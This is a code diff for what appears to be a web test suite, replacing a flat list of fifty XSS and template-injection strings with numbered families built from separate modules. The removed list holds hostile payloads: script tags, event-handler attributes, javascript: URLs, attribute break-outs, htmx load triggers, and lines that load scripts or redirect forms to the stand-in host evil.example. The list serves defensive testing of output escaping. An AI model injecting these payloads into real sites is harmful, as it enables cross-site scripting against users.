@@ -1,53 +1,36 @@
-/** Fifty texts that people type to see whether a page takes them for markup, an attribute, a template or an address. */
-export const HOSTILE_TEXTS: readonly string[] = [
-  '<script>alert(1)</script>',
-  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
-  '<img src=x onerror=alert(1)>',
-  '<svg onload=alert(1)>',
-  '<svg><script>alert(1)</script></svg>',
-  '<body onload=alert(1)>',
-  '<iframe src="javascript:alert(1)"></iframe>',
-  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
-  '<object data="data:text/html,<script>alert(1)</script>"></object>',
-  '<embed src="javascript:alert(1)">',
-  '<link rel=stylesheet href=//evil.example/x.css>',
-  '<meta http-equiv="refresh" content="0;url=//evil.example">',
-  '<base href="//evil.example/">',
-  '<form action="//evil.example"><button>Sign in</button></form>',
-  '<input autofocus onfocus=alert(1)>',
-  '<details open ontoggle=alert(1)>',
-  '<marquee onstart=alert(1)>',
-  '<video><source onerror=alert(1)>',
-  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
-  '<style>*{background:url(//evil.example)}</style>',
-  '<a href="javascript:alert(1)">x</a>',
-  '<!--<img src="--><img src=x onerror=alert(1)//">',
-  ']]><script>alert(1)</script>',
-  '--><script>alert(1)</script>',
-  '</title><script>alert(1)</script>',
-  '</textarea><script>alert(1)</script>',
-  '</script><script>alert(1)</script>',
-  '</style><script>alert(1)</script>',
-  '</option></select><script>alert(1)</script>',
-  '</td></tr></table><script>alert(1)</script>',
-  '"><script>alert(1)</script>',
-  "'><script>alert(1)</script>",
-  '" onmouseover="alert(1)',
-  "' onmouseover='alert(1)",
-  '" autofocus onfocus="alert(1)" x="',
-  '`onmouseover=alert(1)',
-  'x" style="position:fixed;inset:0',
-  'javascript:alert(1)',
-  'JaVaScRiPt:alert(1)',
-  'data:text/html,<script>alert(1)</script>',
-  '&lt;script&gt;alert(1)&lt;/script&gt;',
-  '&#60;script&#62;alert(1)&#60;/script&#62;',
-  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
-  '<scr<script>ipt>alert(1)</scr</script>ipt>',
-  '<\u0000script>alert(1)</script>'.replace('\u0000', ''),
-  '＜script＞alert(1)＜/script＞',
-  '${alert(1)}',
-  '<%= 7 * 7 %> #{7*7} [[${7*7}]]',
-  '<x hx-get="/audit-log" hx-trigger="load">',
-  '<x hx-on:load="alert(1)" data-hx-post="/sign-out" hx-trigger="load">',
-]
+import { isAtNight } from '../support/at-night.ts'
+import { BREAK_OUTS } from './hostile/break-outs.ts'
+import { ELEMENTS } from './hostile/elements.ts'
+import type { HostileFamily } from './hostile/family.ts'
+import { FOREIGN } from './hostile/foreign.ts'
+import { WRITING } from './hostile/writing.ts'
+
+/** A text that people type to see whether a page takes it for markup, an attribute, a template or an address. */
+export interface HostileText {
+  /** What it runs says this number, and the host that it asks begins with it: `alert(7)`, `7.evil.example`. */
+  readonly number: number
+  readonly family: string
+  readonly text: string
+  /** A document that shows it as nobody should; absent where no browser of today would make more of it. */
+  readonly careless: string | undefined
+}
+
+const families = [...ELEMENTS, ...FOREIGN, ...BREAK_OUTS, ...WRITING]
+
+/** Every hostile text there is, each of another make. */
+export const NUMBERED_HOSTILE_TEXTS: readonly HostileText[] = families
+  .flatMap(({ texts, ...family }) => texts.map((text) => ({ ...family, text })))
+  .map(numbered)
+
+export const HOSTILE_TEXTS: readonly string[] = NUMBERED_HOSTILE_TEXTS.map(({ text }) => text)
+
+/** Some of every family, for tests that take long with each; at night all. */
+export const SOME_HOSTILE_TEXTS: readonly string[] = HOSTILE_TEXTS.filter((_, at) => isAtNight || at % 6 === 0)
+
+function numbered({ name, careless, text }: Omit<HostileFamily, 'texts'> & { text: string }, at: number): HostileText {
+  const number = at + 1
+  const own = text
+    .replaceAll(/([(`])1([)`])/g, `$1${number}$2`)
+    .replaceAll('evil.example', () => `${number}.evil.example`)
+  return { number, family: name, text: own, careless: careless?.(own) }
+}
